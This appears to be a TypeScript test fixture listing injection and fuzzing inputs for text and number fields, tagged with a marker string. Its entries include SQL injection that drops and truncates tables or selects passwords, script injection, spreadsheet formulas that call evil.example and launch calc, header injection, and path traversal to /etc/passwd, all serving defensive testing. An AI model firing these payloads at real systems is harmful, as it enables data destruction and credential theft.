/** Found nowhere by chance: where it shows up, a payload does. */
export const MARKER = 'zq7payloadzq7'

/** What is put into text fields, by the trick it tries. */
export const textPayloads: Readonly<Record<string, string>> = {
  'SQL with a quote': `${MARKER}'; drop table "user"; --`,
  'SQL with a union': `' union select password from account -- ${MARKER}`,
  'SQL with a dollar': `$1 $$ ${MARKER} $$ \\'; truncate store cascade; --`,
  'a pattern': `%_\\${MARKER}`,
  HTML: `"><img src=x onerror="globalThis.${MARKER}=1">`,
  script: `</script><script>globalThis.${MARKER}=1</script>`,
  'a script address': `javascript:globalThis.${MARKER}=1`,
  formula: `=HYPERLINK("http://evil.example/${MARKER}","x")`,
  'another formula': `@SUM(1+1)*cmd|' /C calc'!A0 ${MARKER}`,
  header: `x\r\nSet-Cookie: ${MARKER}=1\r\nX-Injected: 1\r\n\r\n`,
  path: `../../../../../../etc/passwd%00${MARKER}`,
  'a Windows path': `..\\..\\..\\windows\\win.ini ${MARKER}`,
  template: `{{constructor.constructor('return 1')()}}\${7*7}<%= 7*7 %> ${MARKER}`,
  'a log line': `${MARKER}\n{"level":60,"msg":"made up"}`,
  'U+0000': `${MARKER}\u0000x`,
  'half a character': `${MARKER}\ud800`,
  'turned writing': `\u202e${MARKER}\u2066\u200f`,
  'a name of objects': '__proto__',
  'another name of objects': 'constructor',
  'letters that grow': `${'İ'.repeat(300)}${MARKER}`,
  'a book': `${MARKER}${'A'.repeat(100_000)}`,
  nothing: '',
}

/** What is put into number fields. */
export const numberPayloads: readonly unknown[] = [
  -1,
  0,
  1.5,
  2_147_483_648,
  -2_147_483_649,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
  1e308,
  8_640_000_000_000_001,
  253_402_300_800_000,
  null,
  '1 or 1=1',
  [1],
  {},
]
